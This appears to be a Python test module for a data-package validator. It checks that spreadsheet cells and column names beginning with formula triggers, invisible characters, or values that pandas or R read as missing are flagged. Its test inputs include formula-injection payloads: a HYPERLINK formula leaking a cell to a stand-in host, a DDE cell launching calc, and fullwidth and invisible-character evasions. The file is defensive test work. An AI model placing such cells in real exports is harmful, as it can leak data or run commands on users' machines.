"""Catalogue, layer 7: spreadsheet safety."""

from __future__ import annotations

from catalogue import FIGURES, PLAIN, Expect, Pkg, case, encode_row, layer_test, parse_row
from hypothesis import example, given
from hypothesis import strategies as st

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "plus": "+44 suspects arrested",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pipe": "|calc",
    "percent": "%APPDATA%",
    "fullwidth-equals": "＝1+1",
    "fullwidth-plus": "＋1",
    "fullwidth-minus": "－1",
    "fullwidth-at": "＠SUM(1)",
    "fullwidth-pipe": "｜calc",
    "fullwidth-percent": "％APPDATA％",
    "leading-tab": "\tsuspects arrested",
    "leading-nul": "\x00suspects arrested",
    "minus-text": "-5 suspects",
}
for _name, _cell in FORMULAS.items():

    @case(f"l7-formula-{_name}", "formula-injection")
    def _(pkg: Pkg, cell: str = _cell) -> list[Expect]:
        line = pkg.set_figure(PLAIN, "measure", cell)
        return [Expect(FIGURES, line, "measure", "formula-injection")]


@case("l7-whole-number-text-cell-is-safe")
def _(pkg: Pkg) -> list[Expect]:
    pkg.set_figure(PLAIN, "notes", "-5")
    return []


# Issue 11, class 7: invisible characters, a TAB or line break first, and formula column names.
INVISIBLE_FIRST = {
    "bom-start": ("\ufeffsee the article", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
    "word-joiner-before-equals": ("\u2060=1+1", "U+2060 WORD JOINER"),
    "tab-before-number": ("\t5", "U+0009 CHARACTER TABULATION"),
    "lf-start-quoted": ("\nsee the article", "U+000A LINE FEED"),
}
for _name, (_cell, _char) in INVISIBLE_FIRST.items():

    @case(f"l7-{_name}", "formula-injection")
    def _(pkg: Pkg, cell: str = _cell, char: str = _char) -> list[Expect]:
        line = pkg.set_figure(PLAIN, "notes", cell)
        return [Expect(FIGURES, line, "notes", "formula-injection", (char, "delete"))]


@case("l7-bom-inside-notes", "control-character")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "notes", "Estimate\ufeff for 2021")
    words = ("U+FEFF ZERO WIDTH NO-BREAK SPACE", "at character 9", "delete it")
    return [Expect(FIGURES, line, "notes", "control-character", words)]


@case("l7-hangul-filler-before-equals", "formula-injection")
def _(pkg: Pkg) -> list[Expect]:
    # Found by review: a filler that renders blank (not category Cf) hid what the cell starts with.
    line = pkg.set_figure(PLAIN, "notes", '\u3164=HYPERLINK("x")')
    return [Expect(FIGURES, line, "notes", "formula-injection", ("U+3164 HANGUL FILLER",))]


@case("l7-private-use-inside-notes", "control-character")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "notes", "Estimate\ue000 for 2021")
    return [Expect(FIGURES, line, "notes", "control-character", ("U+E000", "at character 9"))]


@case("l7-cr-start", "line-ending", "formula-injection")
def _(pkg: Pkg) -> list[Expect]:
    # Layer 2 reports the CR and reads it as LF, as everywhere; the cell then starts with LF.
    line = pkg.set_figure(PLAIN, "notes", "\rsee the article")
    return [
        Expect(FIGURES, line, None, "line-ending", ("end in CR",)),
        Expect(FIGURES, line, "notes", "formula-injection", ("U+000A LINE FEED",)),
    ]


def add_column(pkg: Pkg, name: str) -> None:
    """Add an optional, empty string column ``name`` to the figures schema and CSV."""
    schema = pkg.load_json(pkg.schema_path("figures"))
    schema["fields"].append({"name": name, "type": "string"})
    pkg.dump_json(pkg.schema_path("figures"), schema)
    header, *rows = pkg.lines("figures")
    pkg.write_lines("figures", [encode_row([*parse_row(header), name])] + [row + "," for row in rows])


HEADERS = {
    "equals": ("=1+1", "U+003D EQUALS SIGN"),
    "at": ("@cmd", "U+0040 COMMERCIAL AT"),
    "plus": ("+x", "U+002B PLUS SIGN"),
    "minus": ("-x", "U+002D HYPHEN-MINUS"),
    "hyperlink": ('=HYPERLINK("http://example.com","click")', "U+003D EQUALS SIGN"),
}
for _name, (_header, _char) in HEADERS.items():

    @case(f"l7-header-formula-{_name}", "formula-injection")
    def _(pkg: Pkg, header: str = _header, char: str = _char) -> list[Expect]:
        add_column(pkg, header)
        return [Expect(FIGURES, 1, header, "formula-injection", ("the column name", char))]


@case("l7-header-invisible-character", "control-character")
def _(pkg: Pkg) -> list[Expect]:
    add_column(pkg, "reviewer\u200bnote")
    words = ("the column name", "U+200B ZERO WIDTH SPACE")
    return [Expect(FIGURES, 1, "reviewer\u200bnote", "control-character", words)]


@case("l7-header-added-column-is-safe")
def _(pkg: Pkg) -> list[Expect]:
    add_column(pkg, "reviewer_note")
    return []


_CELL_TEXT = st.text(alphabet=st.sampled_from(list(" \t\r\n\x00=+-@|%ax1\uff1d\uff05\uff5c")), max_size=6)


@given(st.lists(_CELL_TEXT, max_size=6))
@example([" \nx"])
@example(["notes\n=x"])
def test_spreadsheet_prefilter_never_hides_a_formula(column: list[str]) -> None:
    """Property: whenever formula_problem flags a cell, the joined-column prefilter matches too."""
    from ukcsa_data.validation.l7_spreadsheet.spreadsheet import _POSSIBLE_FORMULA, formula_problem

    if any(formula_problem(cell) for cell in column if cell):
        assert _POSSIBLE_FORMULA.search("\n".join(cell for cell in column if cell))


# Issue 19: text cells that pandas.read_csv (default na_values) or R (readr, read.csv) read as missing
READ_AS_MISSING = {
    "NA": "readr",
    "N/A": "pandas",
    "n/a": "pandas",
    "null": "pandas",
    "NULL": "pandas",
    "None": "pandas",
    "NaN": "pandas",
    "#N/A": "pandas",
    "<NA>": "pandas",
}
for _index, (_cell, _reader) in enumerate(READ_AS_MISSING.items()):

    @case(f"l7-read-as-missing-{_index}-{_cell.strip('#<>').replace('/', '-').lower()}", "read-as-missing")
    def _(pkg: Pkg, cell: str = _cell, reader: str = _reader) -> list[Expect]:
        line = pkg.set_figure(PLAIN, "notes", cell)
        words = (f'"{cell}"', "read as a missing value", reader, "leave the cell empty")
        return [Expect(FIGURES, line, "notes", "read-as-missing", words)]


@case("l7-read-as-missing-minus-nan-is-also-a-formula", "read-as-missing", "formula-injection")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "measure", "-nan")
    return [
        Expect(FIGURES, line, "measure", "read-as-missing", ("pandas",)),
        Expect(FIGURES, line, "measure", "formula-injection"),
    ]


@case("l7-read-as-missing-only-the-whole-cell")
def _(pkg: Pkg) -> list[Expect]:
    # words that no reader drops: another case, a longer text, a word inside a sentence
    pkg.set_figure(PLAIN, "notes", "none")
    pkg.set_figure("fig-0001", "notes", "NA figures; see N/A")
    return []


test_broken_package = layer_test(__name__)
